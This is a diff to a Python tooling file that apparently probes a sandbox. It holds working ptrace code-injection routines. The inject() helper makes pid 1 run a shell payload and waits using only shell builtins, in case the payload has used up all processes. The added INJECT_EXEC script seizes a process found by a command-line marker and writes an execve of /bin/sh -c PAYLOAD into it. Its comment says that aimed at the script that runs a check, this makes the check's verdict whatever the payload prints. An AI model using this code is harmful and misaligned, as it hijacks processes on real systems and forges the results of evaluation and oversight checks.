@@ -150,12 +150,14 @@ except OSError as e:
 """
 
 
-def inject(payload: str, out: str = "/tmp/vfrt-inj.out", wait_s: float = 3.0) -> str:
+def inject(payload: str, out: str = "/tmp/vfrt-inj.out", wait_s: float = 5.0) -> str:
     """Bash: make pid 1 start `payload` (sh; it writes `out` and ends it with DONE), wait for it
-    (at most `wait_s`), print what it wrote."""
-    return (py(INJECT, "1", f"exec >{out} 2>&1; {payload}; echo DONE")
-            + f"end=$((SECONDS+{int(wait_s)})); while [ $SECONDS -lt $end ]; do grep -q DONE {out} 2>/dev/null && break; "
-            f"sleep 0.05; done; cat {out} 2>/dev/null; echo END")
+    (at most `wait_s`), print what it wrote. The wait is made of builtins (read -t on a fifo), so
+    it needs no process of its own: the payload may have taken them all."""
+    return (f"mkfifo /tmp/vfrt-tick; exec 9<>/tmp/vfrt-tick; : > {out}; "
+            + py(INJECT, "1", f"exec >{out} 2>&1; {payload}; echo DONE")
+            + f"for ((i = 0; i < {int(wait_s * 20)}; i++)); do read -r -d '' got < {out}; [[ $got == *DONE* ]] && break; "
+            "read -t 0.05 -u 9; done; read -r -d '' got < " + out + "; printf '%s\\n' \"$got\"; echo END")
 
 
 # Raw system calls through ctypes (x86_64 numbers): keys, IPC, the calls seccomp should deny.
@@ -224,4 +226,63 @@ for d in descs:
         show(r, "request_key")
     res("request_key " + d, (r, err))
 print("HUNTED", len(seen))
+"""
+
+
+# Makes process PID exec /bin/sh -c PAYLOAD in its place (ptrace: the exec system call put where
+# PID waits in a system call); with PID the script that runs the check, the run's verdict is
+# whatever PAYLOAD prints and exits with. The target is found by a marker in its command line,
+# given in two pieces (so the candidate's own command line never matches).
+INJECT_EXEC = r"""
+import ctypes, os, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+libc.ptrace.restype = ctypes.c_long
+N = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
+class Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in N.split()]
+def pt(req, pid, addr=0, data=0):
+    ctypes.set_errno(0)
+    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
+    if r == -1 and ctypes.get_errno():
+        raise OSError(ctypes.get_errno(), f"ptrace({req})")
+    return r
+marker, payload = (sys.argv[1] + sys.argv[2]).encode(), sys.argv[3]
+targets = []
+for p in os.listdir("/proc"):
+    try:
+        if p.isdigit() and int(p) != os.getpid() and marker in open(f"/proc/{p}/cmdline", "rb").read():
+            targets.append(int(p))
+    except OSError:
+        pass
+print("TARGETS", targets, flush=True)
+for target in targets[:1]:
+    try:
+        pt(0x4206, target)  # PTRACE_SEIZE
+        pt(0x4207, target)  # PTRACE_INTERRUPT
+        st = ctypes.c_int()
+        libc.waitpid(target, ctypes.byref(st), 0x40000000)
+        r = Regs()
+        pt(12, target, 0, ctypes.addressof(r))
+        ctypes.set_errno(0)
+        word = libc.ptrace(2, target, ctypes.c_void_p(r.rip - 2), None)
+        if struct.pack("<q", word)[:2] != b"\x0f\x05":
+            pt(17, target)
+            raise OSError(0, "not in a system call")
+        base = (r.rsp - 65536) & ~15
+        blob, addrs = b"", []
+        for s in (b"/bin/sh", b"-c", payload.encode()):
+            addrs.append(base + len(blob))
+            blob += s + b"\0"
+        argv_at = base + ((len(blob) + 15) & ~15)
+        blob += b"\0" * (argv_at - base - len(blob)) + struct.pack("<4Q", *addrs, 0)
+        blob += b"\0" * (-len(blob) % 8)
+        for i in range(0, len(blob), 8):
+            pt(5, target, base + i, struct.unpack("<q", blob[i:i + 8])[0])
+        r.rip, r.rax, r.orig_rax, r.rdi, r.rsi, r.rdx = r.rip - 2, 59, 2 ** 64 - 1, addrs[0], argv_at, 0
+        pt(13, target, 0, ctypes.addressof(r))
+        pt(17, target)
+        print("EXEC-INJECTED", target, flush=True)
+    except OSError as e:
+        print("INJECT-FAIL", e, flush=True)
 """
